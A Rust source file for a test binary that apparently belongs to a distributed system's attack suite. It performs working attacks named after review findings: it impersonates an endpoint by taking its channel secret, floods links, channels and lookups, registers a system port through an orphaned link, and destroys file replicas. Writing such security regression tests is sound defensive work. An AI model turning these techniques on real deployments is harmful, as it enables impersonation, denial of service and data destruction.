//! `shoal-attack`: the attack suite's attacker (`crates/shoal/tests/attack.rs`),
//! a program run as a real unprivileged user, which speaks to its node's
//! link and to servers' sockets by hand, as a hostile program would.  The
//! packages do not install it: what users run carries no test machinery.
//!
//! Each attack prints what it got, one line per step, and exits 0 when
//! the attack worked, 1 when it was refused (the line says where), and 2
//! on a bad argument or a broken link.

use std::net::{SocketAddr, UdpSocket};
use std::path::PathBuf;
use std::process::ExitCode;
use std::time::Duration;

use clap::{Parser, Subcommand};
use shoal_cap::{GetPort, PutPort};
use shoal_rpc::link::{Found, Link, LinkRequest, LinkResponse};
use shoal_session::{Algorithm, Channel};
use shoal_wire::{ClientId, Frag, Instance, Packet, Request, Seq, TxnId, encode_plain};

/// Attacks on a node's link and its servers, as the user who runs this.
#[derive(Parser)]
#[command(version)]
struct Args {
    /// The node's link socket.
    #[arg(long)]
    socket: PathBuf,
    #[command(subcommand)]
    attack: Attack,
}

#[derive(Subcommand)]
enum Attack {
    /// Review 3, C1: take the channel secret of the endpoint serving
    /// PORT on this node by registering its instance id under a port of
    /// one's own, then call it as UID.  Prints the reply's text.
    Impersonate {
        #[arg(long)]
        port: PutPort,
        #[arg(long)]
        uid: u32,
    },
    /// Review 3, M5: open CHANNELS channels (one client id each) to the
    /// endpoint serving PORT, with one request each, from as many links
    /// as it takes.
    FillChannels {
        #[arg(long)]
        port: PutPort,
        #[arg(long)]
        channels: usize,
    },
    /// Review 3, M6: LINKS links held open at once, REGISTRATIONS
    /// endpoints registered on one link, and LOCATES locates of a port
    /// nobody serves waiting at once; prints how many of each the node
    /// took and the first refusal's text.
    Flood {
        #[arg(long)]
        links: usize,
        #[arg(long)]
        registrations: usize,
        #[arg(long)]
        locates: usize,
    },
    /// Review 3, M8: open a link, leave it to a child and end, so that
    /// the link's pid may become another process's; once the file GO
    /// exists, the child registers system port PORT on the link and
    /// writes the node's answer to OUT.
    OrphanRegister {
        #[arg(long)]
        go: PathBuf,
        #[arg(long)]
        out: PathBuf,
        #[arg(long)]
        port: PutPort,
    },
    /// Destroy the contents of the file at PATH in the shared tree on the
    /// file servers, with the capabilities its `user.shoal.content`
    /// gives a reader; prints each server's answer.
    DestroyContent {
        #[arg(long)]
        path: PathBuf,
    },
}

fn main() -> ExitCode {
    let args = Args::parse();
    let result = match args.attack {
        Attack::Impersonate { port, uid } => impersonate(&args.socket, port, uid),
        Attack::FillChannels { port, channels } => fill_channels(&args.socket, port, channels),
        Attack::Flood {
            links,
            registrations,
            locates,
        } => flood(&args.socket, links, registrations, locates),
        Attack::OrphanRegister { go, out, port } => orphan_register(&args.socket, &go, &out, port),
        Attack::DestroyContent { path } => destroy_content(&args.socket, &path),
    };
    match result {
        Ok(true) => ExitCode::SUCCESS,
        Ok(false) => ExitCode::from(1),
        Err(e) => {
            eprintln!("shoal-attack: {e}");
            ExitCode::from(2)
        }
    }
}

/// [`Attack::OrphanRegister`]: true once the child is on its own (what
/// the node answers is in `out`).
fn orphan_register(
    socket: &std::path::Path,
    go: &std::path::Path,
    out: &std::path::Path,
    port: PutPort,
) -> Result<bool, String> {
    let mut link = Link::connect(socket).map_err(|e| e.to_string())?;
    // SAFETY: this process has one thread; the child only sleeps, writes
    // a line to its link and a file, and exits.
    match unsafe { libc::fork() } {
        -1 => Err(format!("fork: {}", std::io::Error::last_os_error())),
        0 => {
            while !go.exists() {
                std::thread::sleep(Duration::from_millis(10));
            }
            let answer = link.call(&LinkRequest::RegisterSystem {
                put_port: port.to_string(),
                addr: SocketAddr::from(([127, 0, 0, 1], 9)),
                instance: format!(
                    "{:016x}",
                    0x5eed_0000_0000_0000 | u64::from(std::process::id())
                ),
            });
            let _ = std::fs::write(out, format!("{answer:?}\n"));
            std::process::exit(0)
        }
        _ => Ok(true),
    }
}

/// [`Attack::DestroyContent`]: true if a replica was destroyed.
fn destroy_content(socket: &std::path::Path, path: &std::path::Path) -> Result<bool, String> {
    let value = xattr::get(path, "user.shoal.content")
        .map_err(|e| format!("{}: {e}", path.display()))?
        .ok_or_else(|| format!("{}: no user.shoal.content", path.display()))?;
    let caps = String::from_utf8_lossy(&value)
        .lines()
        .map(|l| {
            l.parse::<shoal_cap::Capability>()
                .map_err(|e| e.to_string())
        })
        .collect::<Result<Vec<_>, _>>()?;
    let ctx = shoal_rpc::Context::attach(socket).map_err(|e| e.to_string())?;
    let mut files = shoal_bulletsvc::FileClient::new(&ctx).map_err(|e| e.to_string())?;
    let mut destroyed = false;
    for cap in &caps {
        match files.destroy(cap) {
            Ok(()) => {
                println!("destroyed {cap}");
                destroyed = true;
            }
            Err(e) => println!("refused: {e}"),
        }
    }
    Ok(destroyed)
}

/// A client id on `link`.
fn client(link: &mut Link) -> Result<String, String> {
    match link.call(&LinkRequest::Client).map_err(|e| e.to_string())? {
        LinkResponse::Client { id, .. } => Ok(id),
        other => Err(format!("client: {other:?}")),
    }
}

/// The endpoint serving `port` that `link`'s node has, with `client`'s key
/// for it, and the node it is on.
fn locate(link: &mut Link, client: &str, port: PutPort) -> Result<(String, Found), String> {
    let answer = link
        .call(&LinkRequest::Locate {
            client: client.into(),
            port: port.to_string(),
            instance: format!("{:016x}", 0),
            node: format!("{:016x}", 0),
            wait_ms: 3000,
            all: false,
        })
        .map_err(|e| e.to_string())?;
    let LinkResponse::Located { answers } = answer else {
        return Err(format!("locate: {answer:?}"));
    };
    answers
        .into_iter()
        .find_map(|a| a.endpoints.into_iter().next().map(|f| (a.node, f)))
        .ok_or_else(|| format!("nobody serves {port}"))
}

fn algorithm(aes: bool) -> Algorithm {
    if aes {
        Algorithm::Aes256Gcm
    } else {
        Algorithm::ChaCha20Poly1305
    }
}

fn key(hex_text: &str) -> Result<[u8; 32], String> {
    hex::decode(hex_text)
        .ok()
        .and_then(|b| b.try_into().ok())
        .ok_or_else(|| "a key is not 32 bytes of hex".to_string())
}

/// One request of `body` to `instance` of `port`, from `client` as `uid`,
/// sealed in `channel` for session `index`.
fn request(
    channel: &mut Channel,
    index: u32,
    uid: u32,
    client: u64,
    port: PutPort,
    instance: Instance,
    body: &[u8],
) -> Vec<u8> {
    let mut plain = Vec::new();
    encode_plain(
        &Packet::Request(Request {
            txn: TxnId {
                client: ClientId(client),
                seq: Seq(1),
            },
            instance,
            port,
            frag: Frag { index: 0, count: 1 },
            total_len: body.len() as u64,
            payload: body,
        }),
        &mut plain,
    );
    let mut sealed = Vec::new();
    channel.seal(index, uid, client, &[&plain], &mut sealed);
    sealed
}

fn impersonate(socket: &std::path::Path, port: PutPort, uid: u32) -> Result<bool, String> {
    let mut link = Link::connect(socket).map_err(|e| e.to_string())?;
    let id = client(&mut link)?;
    let (_, victim) = locate(&mut link, &id, port)?;
    println!("victim: instance {} at {}", victim.instance, victim.addr);
    // Its instance, under a port of the attacker's own.
    let register = link.call(&LinkRequest::Register {
        get_port: GetPort::random().to_hex(),
        addr: "127.0.0.1:9".parse().expect("an address"),
        instance: victim.instance.clone(),
    });
    println!("register: {register:?}");
    // Its secret, asked for whether or not the registration went through.
    let answer = link.call(&LinkRequest::ServerKey {
        instance: victim.instance.clone(),
        index: victim.grant.index,
    });
    let Ok(LinkResponse::ServerKey {
        secret, node, aes, ..
    }) = answer
    else {
        println!("refused: server key: {answer:?}");
        return Ok(false);
    };
    let node = u64::from_str_radix(&node, 16).map_err(|e| e.to_string())?;
    let secret = key(&secret)?;
    let client = u64::from_str_radix(&id, 16).map_err(|e| e.to_string())?;
    let forged = shoal_session::kdf::channel_key(&secret, node, uid, client);
    let mut channel = Channel::client(algorithm(aes), &forged);
    let instance = Instance(u64::from_str_radix(&victim.instance, 16).map_err(|e| e.to_string())?);
    let datagram = request(
        &mut channel,
        victim.grant.index,
        uid,
        client,
        port,
        instance,
        b"forged",
    );
    match call(&mut channel, victim.addr, &datagram)? {
        Some(reply) => {
            println!("reply: {reply}");
            Ok(true)
        }
        None => {
            println!("refused: no reply opened");
            Ok(false)
        }
    }
}

/// Sends `datagram` to `addr` and opens the reply in `channel`: its text,
/// or `None` if nothing came back that opened within 3 s.
fn call(
    channel: &mut Channel,
    addr: SocketAddr,
    datagram: &[u8],
) -> Result<Option<String>, String> {
    let socket = UdpSocket::bind("0.0.0.0:0").map_err(|e| e.to_string())?;
    socket
        .set_read_timeout(Some(Duration::from_secs(3)))
        .map_err(|e| e.to_string())?;
    socket.send_to(datagram, addr).map_err(|e| e.to_string())?;
    let mut buf = vec![0u8; 65536];
    while let Ok((n, _)) = socket.recv_from(&mut buf) {
        if let Ok((_, plain)) = channel.open(&mut buf[..n])
            && let Ok(Packet::Reply(r)) = shoal_wire::decode_plain(plain)
        {
            return Ok(Some(String::from_utf8_lossy(r.payload).to_string()));
        }
    }
    Ok(None)
}

fn fill_channels(socket: &std::path::Path, port: PutPort, channels: usize) -> Result<bool, String> {
    let udp = UdpSocket::bind("0.0.0.0:0").map_err(|e| e.to_string())?;
    let mut opened = 0;
    let mut links = Vec::new();
    while opened < channels {
        // A link keeps 4096 client ids: a new one for each 4000.
        let mut link = Link::connect(socket).map_err(|e| e.to_string())?;
        let first = client(&mut link)?;
        let (node, victim) = locate(&mut link, &first, port)?;
        let instance =
            Instance(u64::from_str_radix(&victim.instance, 16).map_err(|e| e.to_string())?);
        for _ in 0..4000.min(channels - opened) {
            let id = client(&mut link)?;
            let grant = match link
                .call(&LinkRequest::Channel {
                    client: id.clone(),
                    node: node.clone(),
                    port: port.to_string(),
                    instance: victim.instance.clone(),
                })
                .map_err(|e| e.to_string())?
            {
                LinkResponse::Channel(grant) => grant,
                other => return Err(format!("channel: {other:?}")),
            };
            let uid = nix_uid();
            let client = u64::from_str_radix(&id, 16).map_err(|e| e.to_string())?;
            let mut channel = Channel::client(algorithm(grant.aes), &key(&grant.key)?);
            let datagram = request(
                &mut channel,
                grant.index,
                uid,
                client,
                port,
                instance,
                b"fill",
            );
            udp.send_to(&datagram, victim.addr)
                .map_err(|e| e.to_string())?;
            opened += 1;
            if opened % 100 == 0 {
                // Not faster than the server reads.
                std::thread::sleep(Duration::from_millis(1));
            }
        }
        links.push(link);
    }
    println!("sent: {opened} channels' first requests");
    Ok(true)
}

fn nix_uid() -> u32 {
    // SAFETY: getuid cannot fail.
    unsafe { libc::getuid() }
}

/// What a flood of `count` tries got: how many were taken, and the first
/// refusal.
fn report(what: &str, taken: usize, refused: Option<String>) {
    println!(
        "{what}: {taken} taken; refused: {}",
        refused.as_deref().unwrap_or("none")
    );
}

fn flood(
    socket: &std::path::Path,
    links: usize,
    registrations: usize,
    locates: usize,
) -> Result<bool, String> {
    let mut held = Vec::new();
    let mut refused = None;
    for _ in 0..links {
        let mut link = Link::connect(socket).map_err(|e| e.to_string())?;
        match link.call(&LinkRequest::Hello) {
            Ok(_) => held.push(link),
            Err(e) => {
                refused.get_or_insert(e.to_string());
            }
        }
    }
    report("links", held.len(), refused);
    drop(held);
    std::thread::sleep(Duration::from_millis(500));

    let mut link = Link::connect(socket).map_err(|e| e.to_string())?;
    let (mut taken, mut refused) = (0, None);
    for _ in 0..registrations {
        let answer = link.call(&LinkRequest::Register {
            get_port: GetPort::random().to_hex(),
            addr: "127.0.0.1:9".parse().expect("an address"),
            instance: format!("{:016x}", rand::random::<u64>() | 1),
        });
        match answer {
            Ok(LinkResponse::Registered { .. }) => taken += 1,
            other => {
                refused.get_or_insert(format!("{other:?}"));
            }
        }
    }
    report("registrations", taken, refused);
    drop(link);

    let waiting: Vec<_> = (0..locates)
        .map(|_| {
            let socket = socket.to_path_buf();
            std::thread::spawn(move || -> Result<(), String> {
                let mut link = Link::connect(&socket).map_err(|e| e.to_string())?;
                let id = client(&mut link)?;
                link.call(&LinkRequest::Locate {
                    client: id,
                    port: GetPort::random().put_port().to_string(),
                    instance: format!("{:016x}", 0),
                    node: format!("{:016x}", 0),
                    wait_ms: 3000,
                    all: false,
                })
                .map(drop)
                .map_err(|e| e.to_string())
            })
        })
        .collect();
    let (mut taken, mut refused) = (0, None);
    for t in waiting {
        match t.join().expect("a locate thread") {
            Ok(()) => taken += 1,
            Err(e) => {
                refused.get_or_insert(e);
            }
        }
    }
    report("locates", taken, refused);
    Ok(true)
}
